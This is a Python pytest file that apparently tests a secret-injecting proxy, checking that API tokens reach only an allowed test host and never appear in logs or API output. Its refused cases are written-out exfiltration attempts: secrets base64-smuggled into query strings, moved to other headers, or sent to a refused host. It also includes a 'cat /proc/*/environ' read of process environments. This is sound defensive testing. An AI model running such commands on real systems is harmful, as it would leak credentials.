"""One run that uses and misuses secrets in every way, and everything that is said and kept of it: no value in any."""

from __future__ import annotations

import base64
import contextlib
import json
import re
import secrets
import ssl
import subprocess
from typing import TYPE_CHECKING, Any

import pytest
import trustme

from tests.client_programs import trusting
from tests.clients.kit import ALLOWED, REFUSED, shown
from tests.h2_site import H2Site
from tests.holds.leaks import found_in_files
from tests.served import Served

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.lab.api import Lab
    from tests.product import Product

PLACES = {
    "BEARER": ("--bearer",),
    "BASIC": ("--basic",),
    "HEADER": ("--header", "X-Api-Key"),
    "QUERY": ("--query", "key"),
    "FIELD": ("--body-field", "auth.token"),
}
VALUES = {name: f"ghp_Ev3ry{secrets.token_hex(14)}" for name in PLACES}
JSON = "-H 'Content-Type: application/json'"
GOOD = {
    "BEARER": '-H "Authorization: Bearer $BEARER" https://a.test/',
    "BASIC": '-u "me:$BASIC" https://a.test/',
    "HEADER": '-H "X-Api-Key: $HEADER" https://a.test/',
    "QUERY": '"https://a.test/?key=$QUERY"',
    "FIELD": f'{JSON} -d \'{{"auth": {{"token": "\'$FIELD\'"}}}}\' https://a.test/',
}
"""What curl is given for each place: the origin sees the value, and repeats it."""
BAD = (
    '-H "X-Other: $BEARER" https://a.test/',
    '-H "Authorization: Bearer $HEADER" https://a.test/',
    '-H "$BEARER: x" https://a.test/',
    '"https://a.test/$BEARER/x"',
    '"https://a.test/?other=$QUERY"',
    '"https://a.test/?x=$(printf %s "$BEARER" | base64 -w0)"',
    '-u "$HEADER:x" https://a.test/',
    '-b "session=$BEARER" https://a.test/',
    f"{JSON} -d '{{\"token\": \"'$FIELD'\"}}' https://a.test/",
    f'{JSON} -d \'{{"auth": {{"token": "\'$FIELD\'"}}, "auth": 1}}\' https://a.test/',
    '-F "auth.token=$FIELD" https://a.test/',
    '-d "other=$FIELD" https://a.test/',
    '-H "Authorization: Bearer $BEARER" http://a.test/',
    '-H "Authorization: Bearer $BEARER" http://b.test/',
)
"""What is refused; the origin hears nothing of it."""
SLOW = (
    'printf \'{"auth": {"token": "%s\' "$(echo $FIELD | cut -c1-9)"; sleep 0.3;'
    ' printf \'%s"}}\' "$(echo $FIELD | cut -c10-)"'
)


@contextlib.contextmanager
def origin(product: Product, lab: Lab, folder: Path, version: str) -> Iterator[Any]:
    """Who repeats what was asked: compressed over HTTP/1.1, or over HTTP/2."""
    lab.dns.set("a.test", A=[ALLOWED])
    lab.dns.set("b.test", A=[REFUSED])
    if version == "1.1":
        product.environment.update(trusting(shown(product, lab.ca_file)))
        site = lab.origin("coded", ALLOWED, 443, tls="a.test", codings=["gzip"])
        yield lambda: [site.received.decode("latin-1")]
        return
    authority = trustme.CA()
    authority.cert_pem.write_to_path(str(folder / "ca.pem"))
    product.environment.update(trusting(shown(product, str(folder / "ca.pem"))))
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    authority.issue_cert("a.test").configure_cert(context)
    with H2Site(lab.listener(ALLOWED, 443), context) as served:
        yield lambda: [*map(str, served.requests), *map(str, served.bodies)]


def api(product: Product, path: str) -> str:
    """What the API answers, over the unix socket; of a stream what comes at once."""
    patience = "3" if path == "/api/events" else "60"
    argv = ["curl", "-sS", "-m", patience, "--unix-socket", "run/api.sock"]  # a whole path may be too long for one
    url = f"http://localhost{path}"
    done = subprocess.run([*argv, url], cwd=product.state, capture_output=True, text=True, timeout=90, check=False)
    assert done.stdout, done.stderr
    return done.stdout


def everything_said(product: Product, task: str) -> str:
    """What the commands that look at what happened print, and every answer of the API that is read."""
    said = []
    for words in (
        *(("secret", "list"), *(("secret", "test", name) for name in PLACES)),
        *(("events", "--json"), ("log", "verify"), ("task", "list", "--json"), ("task", "connections", task)),
        *(("policy", "explain", "a.test"), ("policy", "show"), ("rules",)),
    ):
        done = product.tidegate(*words, timeout=120)
        said += [done.stdout, done.stderr]
    paths = json.loads(api(product, "/api/openapi.json"))["paths"]
    read = [path.replace("{id}", task) for path, how in paths.items() if "get" in how]
    assert len(read) > 10
    said += [api(product, path) for path in read if "{" not in path]
    assert task in "".join(said)
    assert "secret-misdirected" in "".join(said)
    return "".join(said)


@pytest.mark.parametrize("version", ["1.1", "2"])
def test_no_value_is_said_or_kept(product: Product, lab: Lab, tmp_path: Path, version: str) -> None:
    """INS-5, B118, B119, B122: used in each place, echoed, compressed, misused: the task and all records have none."""
    other = lab.origin("echo", REFUSED, 80)
    with origin(product, lab, tmp_path, version) as heard, Served(product) as server:
        for name, place in PLACES.items():
            done = product.tidegate("secret", "set", name, "--host", "a.test", *place, stdin=None, input=VALUES[name])
            assert done.returncode == 0, done.stderr
        curl = f"curl -sS -m 30 --http{version} --compressed -w '\\n<%{{http_code}} %{{http_version}}>\\n' "
        lines = [f"{curl} {words}" for words in (*GOOD.values(), *BAD)]
        lines.append(f"({SLOW}) | {curl} {JSON} -H 'Expect:' -T - -X POST https://a.test/slow")
        ways = [word for name in PLACES for word in ("--secret", name)]
        made = product.tidegate("task", "create", "--allow", "a.test", "--allow", "b.test", *ways)
        task = made.stdout.strip()
        script = "env; " + "; ".join(lines) + "; cat /proc/[0-9]*/environ 2>/dev/null; true"
        done = product.tidegate("exec", task, "--report", "report.json", "--", "sh", "-c", script, timeout=110)
        assert done.returncode == 0, done.stderr
        answers = re.findall(r"\n<(\d+) ([\d.]+)>\n", done.stdout)
        count = len(GOOD)
        assert answers[:count] == [("200", version)] * count, done.stdout
        assert [status for status, _ in answers[count:-1]] == ["403"] * len(BAD), done.stdout
        assert answers[-1] == ("200", version), done.stdout
        sent = "\n".join(heard())
        for name, value in VALUES.items():
            shape = base64.b64encode(f"me:{value}".encode()).decode() if name == "BASIC" else value
            assert shape in sent, name
        assert sent.count(VALUES["FIELD"]) == 2  # in one piece, and in two
        said = made.stdout + made.stderr + done.stdout + done.stderr + everything_said(product, task) + server.stop()
    assert other.requests == 0
    for name, value in VALUES.items():
        for form in (value, value[4:], base64.b64encode(f"me:{value}".encode()).decode(), value.encode().hex()):
            assert form not in said, name
            assert found_in_files(form, product.home) == [], name
